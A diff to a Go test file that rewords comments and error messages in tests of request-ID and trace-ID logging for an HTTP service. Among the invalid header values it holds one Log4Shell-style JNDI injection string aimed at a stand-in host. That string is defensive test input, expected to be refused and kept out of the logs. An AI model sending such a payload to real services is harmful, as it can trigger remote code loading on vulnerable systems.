@@ -6,7 +6,8 @@ import (
 	"testing"
 )
 
-// TestRequestIDs: one ID finds a request in the logs of a page, of a proxy and of the server, and nothing else gets in.
+// TestRequestIDs checks that one ID finds a request in the logs of a page, a proxy and the server,
+// and that invalid IDs are not logged.
 func TestRequestIDs(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
@@ -24,29 +25,29 @@ func TestRequestIDs(t *testing.T) {
 		"größe":                         false,
 		"a,b":                           false,
 		"${jndi:ldap://evil.example/a}": false,
-		"sk_" + strings.Repeat("ABCDEFGHIJKLMNOPQRST", 5): true, // whatever it is, it is the caller's own
+		"sk_" + strings.Repeat("ABCDEFGHIJKLMNOPQRST", 5): true, // it may look like a key, because it is the client's choice
 	} {
 		r := s.anonymous().call("GET", "/v1/sessions/current", nil, header("X-Request-Id", id))
 		p := r.refused(http.StatusUnauthorized, "unauthenticated")
 		if told := r.Header.Get("X-Request-Id"); (told == id) != kept || told == "" || p.RequestID != told {
-			t.Errorf("the ID %q comes back as %q, and in the problem as %q", id, told, p.RequestID)
+			t.Errorf("the ID %q was returned as %q, and in the problem as %q", id, told, p.RequestID)
 		}
 		if kept && !s.log.contains(`"requestID":"`+id+`"`) {
-			t.Errorf("the log does not have %q", id)
+			t.Errorf("the log does not contain %q", id)
 		}
 		if !kept && id != "" && s.log.contains(id) {
-			t.Errorf("the log has %q", id)
+			t.Errorf("the log contains %q", id)
 		}
 	}
 	r := s.anonymous().call("GET", "/v1/sessions/current", nil, func(r *http.Request) {
 		r.Header["X-Request-Id"] = []string{"one", "two"}
 	})
 	if told := r.Header.Values("X-Request-Id"); len(told) != 1 || told[0] == "one" || told[0] == "two" {
-		t.Errorf("of two IDs, %q is told", told)
+		t.Errorf("for a request with two IDs, got %q", told)
 	}
 }
 
-// TestTraceIDs: the log names the trace of a request by W3C Trace Context.
+// TestTraceIDs checks that the log contains the trace ID of a request (W3C Trace Context).
 func TestTraceIDs(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
@@ -72,15 +73,16 @@ func TestTraceIDs(t *testing.T) {
 		id := strings.Repeat("i", i+1)
 		s.anonymous().call("GET", "/v1/sessions/current", nil, header("Traceparent", c.traceparent), header("X-Request-Id", id))
 		if got := s.log.contains(`"requestID":"` + id + `","traceID":"` + trace + `"}`); got != c.known {
-			t.Errorf("%q: the log has the trace: %t", c.traceparent, got)
+			t.Errorf("%q: log contains the trace: %t", c.traceparent, got)
 		}
 		if got := s.log.contains(`"requestID":"` + id + `"}`); got == c.known {
-			t.Errorf("%q: the log has the request without a trace: %t", c.traceparent, got)
+			t.Errorf("%q: log contains the request without a trace: %t", c.traceparent, got)
 		}
 	}
 }
 
-// TestStreamEndLogsRequestID: how long a stream lasted and why it ended is found by the ID that opened it.
+// TestStreamEndLogsRequestID checks that the duration of a stream and the reason of its end are
+// logged with the ID of the request that opened it.
 func TestStreamEndLogsRequestID(t *testing.T) {
 	t.Parallel()
 	s := newService(t)
@@ -88,7 +90,7 @@ func TestStreamEndLogsRequestID(t *testing.T) {
 	stream, _ := alice.listen(header("X-Request-Id", "of-the-stream"))
 	stream.disconnect()
 	want := `"session":"` + string(alice.SessionID) + `","requestID":"of-the-stream"}`
-	eventually(t, "the log tells of the end", func() bool {
+	eventually(t, "the log contains the end of the stream", func() bool {
 		return s.log.contains(want) && s.log.contains(`"msg":"stream ended","reason":"clientGone"`)
 	})
 }
